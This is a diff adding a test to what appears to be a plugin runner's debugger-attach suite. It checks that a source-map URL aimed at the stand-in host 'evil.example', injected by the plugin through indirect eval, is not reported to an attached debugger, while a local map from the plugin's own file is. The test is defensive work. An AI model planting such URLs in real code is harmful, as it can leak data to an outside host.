@@ -154,6 +154,34 @@ describe('attach', () => {
     await under.status(({ debuggerAttached }) => !debuggerAttached);
   });
 
+  test('the debugger is not told of source maps at addresses that the plugin names, and of those of its files it is', async () => {
+    const plugin = makePlugin({
+      'a.js': `exports.onFileSave = () => {
+        (0, eval)('1\\n//# sourceMappingURL=http://evil.example/?what-the-plugin-read');
+        require('./b.js');
+        return {};
+      };`,
+      'b.js': '//# sourceMappingURL=b.js.map',
+    });
+    const under = startRunner();
+    const { websocketAddress } = await attach(under, plugin, 'node');
+    const socket = new WebSocket(websocketAddress!);
+    onTestFinished(() => socket.close());
+    await once(socket, 'open');
+    const maps: string[] = [];
+    const toldOfFile = new Promise<void>((resolve) => {
+      socket.addEventListener('message', ({ data }) => {
+        const { params } = JSON.parse(String(data)) as { params?: { sourceMapURL?: string; url?: string } };
+        if (params?.sourceMapURL) maps.push(params.sourceMapURL);
+        if (params?.url?.endsWith('/b.js')) resolve();
+      });
+    });
+    socket.send(JSON.stringify({ id: 1, method: 'Debugger.enable' }));
+    expect(await under.runner.invoke(invocation(plugin, 'a.js'))).toMatchObject({ ok: true });
+    await toldOfFile;
+    expect(maps).toEqual(['b.js.map']);
+  });
+
   test('deadlines count again when the debugger has gone', async () => {
     const plugin = makePlugin({ 'a.js': "exports.onFileSave = (e, { log }) => { log.info('running'); return new Promise(() => {}); };" });
     const under = startRunner();
